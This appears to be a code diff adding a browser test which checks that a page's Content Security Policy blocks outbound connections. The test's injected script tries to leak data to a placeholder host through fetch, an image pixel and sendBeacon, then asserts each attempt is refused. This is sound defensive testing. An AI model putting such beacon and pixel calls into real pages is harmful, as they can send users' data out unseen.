@@ -251,6 +251,29 @@ def test_no_network_request_from_file(browser, published_round):
     _check_offline(browser, published_round.page.as_uri(), proof)
 
 
+def test_the_pages_policy_forbids_any_connection(customer):
+    """Even script running in the page (say, from a browser extension's bug) cannot send anything."""
+    failed: list[tuple[str, str]] = []
+    customer.page.on("requestfailed", lambda request: failed.append((request.url, request.failure or "")))
+    blocked = customer.page.evaluate(
+        """() => new Promise((resolve) => {
+            const seen = [];
+            document.addEventListener("securitypolicyviolation", (e) => {
+                seen.push(e.effectiveDirective);
+                if (seen.length === 3) resolve(seen.sort());
+            });
+            fetch("https://example.invalid/leak").catch(() => {});
+            new Image().src = "https://example.invalid/pixel.png";
+            navigator.sendBeacon("https://example.invalid/beacon", "x");
+        })"""
+    )
+    assert blocked == ["connect-src", "connect-src", "img-src"]
+    customer.page.wait_for_timeout(200)
+    # Chromium reports the image to Playwright before refusing it; nothing else even starts.
+    assert customer.requests == [customer.page.url, "https://example.invalid/pixel.png"]
+    assert failed == [("https://example.invalid/pixel.png", "csp")]  # blocked by the policy, never sent
+
+
 def test_no_network_request_from_zkpor_serve(browser, published_round):
     server = make_server(published_round.public, port=0)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
